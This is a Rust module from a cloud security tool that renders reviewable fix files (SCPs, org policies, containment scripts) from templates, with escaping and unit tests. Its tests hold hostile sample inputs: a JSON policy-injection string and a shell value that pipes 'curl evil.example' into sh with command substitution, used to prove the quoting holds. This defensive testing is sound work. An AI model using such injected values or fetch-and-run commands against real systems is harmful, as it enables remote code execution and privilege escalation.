//! Fixes: reviewable artifacts for the failing findings, rendered with minijinja from
//! `templates/fixes/<cloud>/`. A check's metadata names its templates (`fix = [...]`); each template
//! `<name>.json.j2` has a sibling `<name>.toml` saying what it prevents and what it would affect.
//!
//! Fixes are never applied: they are files a person reviews (a README per directory says how to
//! apply and how to roll back each one). Data walks one way here too: findings and the inventory
//! in, artifacts out.

pub mod aws;
pub mod azure;
pub mod gcp;

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::engine::Scan;
use crate::inventory::{Cloud, Inventory};

/// What the configuration says about fixes (`[fixes]` in portcullis.toml).
#[derive(Debug, Clone, Default, Deserialize, Serialize, PartialEq)]
#[serde(deny_unknown_fields)]
pub struct FixOptions {
    /// Role names exempted from the guardrails (the break-glass roles), in every account.
    #[serde(default)]
    pub break_glass_roles: Vec<String>,
    /// Role names allowed to create and re-activate IAM users' access keys.
    #[serde(default)]
    pub access_key_admin_roles: Vec<String>,
}

impl FixOptions {
    /// Role names must be IAM role names (a path is not allowed): they go into ARNs.
    pub fn validate(&self) -> Result<(), String> {
        for (what, list) in [("break_glass_roles", &self.break_glass_roles), ("access_key_admin_roles", &self.access_key_admin_roles)] {
            if let Some(bad) = list.iter().find(|r| !is_role_name(r)) {
                return Err(format!("[fixes] {what}: {bad:?} is not an IAM role name (1 to 64 of A-Z a-z 0-9 + = , . @ _ -)"));
            }
        }
        Ok(())
    }
}

fn is_role_name(r: &str) -> bool {
    (1..=64).contains(&r.len()) && r.bytes().all(|b| b.is_ascii_alphanumeric() || b"+=,.@_-".contains(&b))
}

#[derive(Debug, thiserror::Error)]
pub enum FixError {
    #[error("fix template {name}: {message}")]
    Template { name: String, message: String },
    #[error("{path}: cannot write: {source}")]
    Write { path: String, source: std::io::Error },
}

/// What one template is for, from its `.toml`.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TemplateInfo {
    pub title: String,
    pub prevents: String,
    pub affects: String,
}

/// One file to review and apply.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct Artifact {
    /// Path under the fixes directory: `aws/scp/portcullis-guardrails-root-1.json`.
    pub path: String,
    pub cloud: Cloud,
    /// `scp`, …
    pub kind: &'static str,
    pub title: String,
    /// The templates it was made from.
    pub templates: Vec<String>,
    /// Where it applies, as the cloud names it (a root, OU or account id).
    pub targets: Vec<String>,
    /// Fingerprints of the findings it addresses.
    pub findings: Vec<String>,
    #[serde(skip)]
    pub content: String,
}

/// Every artifact, and a README per directory.
#[derive(Debug, Default)]
pub struct FixSet {
    pub artifacts: Vec<Artifact>,
    /// Directory (relative) → README text.
    pub readmes: BTreeMap<String, String>,
}

impl FixSet {
    /// The artifacts that address a finding, by fingerprint.
    pub fn index(&self) -> BTreeMap<&str, Vec<&str>> {
        let mut out: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
        for a in &self.artifacts {
            for f in &a.findings {
                out.entry(f.as_str()).or_default().push(a.path.as_str());
            }
        }
        out
    }

    /// Write every artifact and README under `dir` (created if needed).
    pub fn write(&self, dir: &Path) -> Result<(), FixError> {
        let w = |rel: &str, text: &str| -> Result<(), FixError> {
            let path = dir.join(rel);
            let err = |source| FixError::Write { path: path.display().to_string(), source };
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent).map_err(err)?;
            }
            std::fs::write(&path, text).map_err(err)
        };
        for a in &self.artifacts {
            w(&a.path, &a.content)?;
        }
        for (d, text) in &self.readmes {
            w(&format!("{d}/README.md"), text)?;
        }
        // A manifest for tools: every artifact with its kind, targets, templates and findings.
        let manifest = serde_json::json!({"schema": "portcullis.fixes/v1", "artifacts": self.artifacts});
        w("fixes.json", &(serde_json::to_string_pretty(&manifest).unwrap_or_default() + "\n"))
    }
}

/// One fix template: `<cloud>/<name>`, its output kind (`json`, `sh`), its text and its info.
struct Template {
    name: &'static str,
    ext: &'static str,
    text: &'static str,
    info: &'static str,
}

macro_rules! template {
    ($cloud:literal, $name:literal, $ext:literal) => {
        Template {
            name: concat!($cloud, "/", $name),
            ext: $ext,
            text: include_str!(concat!("../../templates/fixes/", $cloud, "/", $name, ".", $ext, ".j2")),
            info: include_str!(concat!("../../templates/fixes/", $cloud, "/", $name, ".toml")),
        }
    };
}

/// The fix templates, embedded.
const TEMPLATES: &[Template] = &[
    template!("aws", "scp_protect_cloudtrail", "json"),
    template!("aws", "scp_deny_leave_organization", "json"),
    template!("aws", "scp_deny_root_user", "json"),
    template!("aws", "scp_require_imdsv2", "json"),
    template!("aws", "scp_protect_access_analyzer", "json"),
    template!("aws", "scp_restrict_access_key_creation", "json"),
    template!("aws", "scp_protect_break_glass_roles", "json"),
    template!("aws", "trust_policy_narrowed", "json"),
    template!("aws", "containment_principals", "sh"),
    template!("gcp", "orgpolicy_disable_sa_key_creation", "json"),
    template!("gcp", "orgpolicy_disable_sa_key_upload", "json"),
    template!("gcp", "orgpolicy_no_default_sa_grants", "json"),
    template!("gcp", "orgpolicy_allowed_member_domains", "json"),
    template!("gcp", "orgpolicy_sa_key_expiry", "json"),
    template!("gcp", "audit_config_data_access", "json"),
    template!("gcp", "containment_disable_sa_keys", "sh"),
    template!("azure", "policy_activity_log_export", "json"),
    template!("azure", "policy_deny_custom_role_wildcard", "json"),
    template!("azure", "policy_lighthouse_allowed_tenants", "json"),
    template!("azure", "entra_app_management_policy", "json"),
    template!("azure", "containment_remove_app_credentials", "sh"),
    template!("azure", "policy_restrict_owner_assignments", "json"),
    template!("azure", "containment_entra_users", "sh"),
];

fn template(name: &str) -> Result<&'static Template, FixError> {
    TEMPLATES.iter().find(|t| t.name == name).ok_or_else(|| FixError::Template { name: name.into(), message: "no such template".into() })
}

/// The names of every template (`aws/scp_protect_cloudtrail`, …).
pub fn template_names() -> impl Iterator<Item = &'static str> {
    TEMPLATES.iter().map(|t| t.name)
}

pub(crate) fn info(name: &str) -> Result<TemplateInfo, FixError> {
    toml::from_str(template(name)?.info).map_err(|e| FixError::Template { name: name.into(), message: e.to_string() })
}

/// Render a JSON template: values are JSON-encoded by the template engine (autoescape for
/// `.json`), and the result must parse.
pub(crate) fn render_json(name: &str, ctx: minijinja::Value) -> Result<serde_json::Value, FixError> {
    let t = template(name)?;
    let err = |message: String| FixError::Template { name: name.into(), message };
    if t.ext != "json" {
        return Err(err("is not a JSON template".into()));
    }
    let mut env = minijinja::Environment::new();
    env.set_auto_escape_callback(|_| minijinja::AutoEscape::Json);
    env.add_template("t.json", t.text).map_err(|e| err(e.to_string()))?;
    let out = env.get_template("t.json").and_then(|t| t.render(ctx)).map_err(|e| err(e.to_string()))?;
    serde_json::from_str(&out).map_err(|e| err(format!("renders invalid JSON: {e}")))
}

/// Render a shell template: every value is single-quoted by the template engine (a custom
/// autoescape), so no name from the inventory can end a word or start a command.
pub(crate) fn render_sh(name: &str, ctx: minijinja::Value) -> Result<String, FixError> {
    let t = template(name)?;
    let err = |message: String| FixError::Template { name: name.into(), message };
    if t.ext != "sh" {
        return Err(err("is not a shell template".into()));
    }
    let mut env = minijinja::Environment::new();
    env.set_auto_escape_callback(|_| minijinja::AutoEscape::Custom("sh".into()));
    env.set_formatter(|out, state, value| match state.auto_escape() {
        minijinja::AutoEscape::Custom(c) if c == "sh" && !value.is_safe() && !value.is_undefined() && !value.is_none() => {
            let text = value.as_str().map_or_else(|| value.to_string(), str::to_string);
            out.write_str(&shell_quote(&text)).map_err(|_| minijinja::Error::new(minijinja::ErrorKind::WriteFailure, "write failed"))
        }
        _ => minijinja::escape_formatter(out, state, value),
    });
    env.add_template("t.sh", t.text).map_err(|e| err(e.to_string()))?;
    env.get_template("t.sh").and_then(|t| t.render(ctx)).map_err(|e| err(e.to_string()))
}

/// One shell word whatever the text: single quotes, each `'` written as `'\''`. Control characters
/// are made visible first (a comment line must stay one line).
pub fn shell_quote(s: &str) -> String {
    format!("'{}'", crate::report::table::sanitize(s).replace('\'', "'\\''"))
}

/// What a fix template is asked for by: the failing findings, their checks and their scopes
/// (account, subscription or tenant, project).
#[derive(Default)]
pub(crate) struct Asked {
    pub findings: Vec<String>,
    pub checks: std::collections::BTreeSet<&'static str>,
    pub scopes: std::collections::BTreeSet<String>,
}

impl Asked {
    pub fn record(&mut self, f: &crate::finding::Finding) {
        self.findings.push(f.fingerprint());
        self.checks.insert(f.check_id);
        self.scopes.insert(f.account.to_string());
    }

    /// The fingerprints of the asking findings in one scope.
    pub fn fingerprints_in(&self, scan: &Scan, scope: &str) -> Vec<String> {
        scan.findings
            .iter()
            .filter(|f| f.status == crate::finding::Status::Fail && f.account == scope && self.checks.contains(f.check_id))
            .map(|f| f.fingerprint())
            .collect()
    }
}

/// Each failing finding of `cloud` with each fix template its check names (`<cloud>/<name>`),
/// and the check: what every cloud's planner starts from.
pub(crate) fn failing_with_templates<'s, 'a>(scan: &'s Scan<'a>, cloud: Cloud) -> Vec<(&'s crate::finding::Finding<'a>, &'static crate::checks::Check, String)> {
    let checks: std::collections::HashMap<&str, &'static crate::checks::Check> = scan.checks.iter().map(|c| (c.meta.id_static, *c)).collect();
    let mut out = Vec::new();
    for f in scan.findings.iter().filter(|f| f.status == crate::finding::Status::Fail && f.cloud == cloud) {
        let Some(c) = checks.get(f.check_id) else { continue };
        for t in &c.meta.fix {
            out.push((f, *c, format!("{cloud}/{t}")));
        }
    }
    out
}

/// Plan the fixes for a scan's failing findings.
/// `trusted` is the configuration's allow-lists (the Lighthouse policy allows `azure_tenants`).
pub fn plan(scan: &Scan, inv: &Inventory, opts: &FixOptions, trusted: &crate::settings::Trusted) -> Result<FixSet, FixError> {
    let mut set = FixSet::default();
    aws::plan(scan, inv, opts, &mut set)?;
    azure::plan(scan, inv, trusted, &mut set)?;
    gcp::plan(scan, inv, &mut set)?;
    Ok(set)
}

/// Every template named by a check's metadata exists, and every template is named by a check.
pub fn validate_names(checks: &[crate::checks::Check]) -> Result<(), String> {
    for c in checks {
        for f in &c.meta.fix {
            let full = format!("{}/{f}", c.meta.cloud);
            if !template_names().any(|n| n == full) {
                return Err(format!("{}: fix template {full} does not exist under templates/fixes/", c.meta.id));
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_template_has_its_info_and_renders_json() {
        for name in template_names() {
            let i = info(name).unwrap();
            assert!(!i.title.is_empty() && !i.prevents.is_empty() && !i.affects.is_empty());
            let ctx = minijinja::context! {
                exempt => vec!["arn:aws:iam::*:role/BreakGlass"], key_admins => vec!["arn:aws:iam::*:role/IdentityAdmin"],
                parent => "organizations/1", customer_ids => vec!["C0abc123"], expiry => "2160h",
                keys => vec![minijinja::context! { key => "k1", email => "sa@p.iam.gserviceaccount.com", project => "p", why => "old" }],
                accounts => vec![minijinja::context! { email => "sa@p.iam.gserviceaccount.com", project => "p" }],
                allowed_tenants => vec!["72f988bf-86f1-41af-91ab-2d7cd011db47"], max_lifetime => "P180D",
                credentials => vec![minijinja::context! { sp => false, app_id => "k1", key_id => "k2", cert => true, display => "a", object => "o", why => "w" }],
                document => minijinja::value::Serde(serde_json::json!({"Version": "2012-10-17", "Statement": []})),
                principals => vec![minijinja::context! { role => false, name => "k1", account => "111122223333", why => "w", id => "k1", scope => "/subscriptions/x" }],
            };
            match template(name).unwrap().ext {
                "json" => assert!(!render_json(name, ctx).unwrap().is_null(), "{name}"),
                _ => assert!(render_sh(name, ctx).unwrap().contains("'k1'"), "{name}"),
            }
        }
        validate_names(crate::checks::all().unwrap()).unwrap();
    }

    #[test]
    fn hostile_values_stay_json_strings() {
        let evil = "x\"]},{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*";
        let v = render_json("aws/scp_protect_cloudtrail", minijinja::context! { exempt => vec![evil] }).unwrap();
        assert_eq!(v.as_array().unwrap().len(), 1);
        assert_eq!(v[0]["Condition"]["ArnNotLike"]["aws:PrincipalArn"][0], evil);
    }

    #[test]
    fn shell_values_are_one_quoted_word() {
        assert_eq!(shell_quote("a'b"), "'a'\\''b'");
        let evil = "k1; curl evil.example | sh #\n$(id)`id`";
        let out = render_sh("gcp/containment_disable_sa_keys", minijinja::context! {
            keys => vec![minijinja::context! { key => evil, email => "x'y@p.iam.gserviceaccount.com", project => "p", why => "line\nbreak" }],
        })
        .unwrap();
        let line = out.lines().find(|l| l.starts_with("gcloud")).unwrap();
        assert!(line.starts_with("gcloud iam service-accounts keys disable 'k1; curl evil.example | sh #\\u{a}$(id)`id`' --iam-account='x'\\''y@"), "{line}");
        assert!(out.lines().any(|l| l == "# 'x'\\''y@p.iam.gserviceaccount.com' in 'p': 'line\\u{a}break'"), "{out}");
    }

    #[test]
    fn role_names_are_validated() {
        assert!(FixOptions { break_glass_roles: vec!["BreakGlass".into()], ..Default::default() }.validate().is_ok());
        assert!(FixOptions { break_glass_roles: vec!["*".into()], ..Default::default() }.validate().is_err());
        assert!(FixOptions { access_key_admin_roles: vec!["a/b".into()], ..Default::default() }.validate().is_err());
    }
}
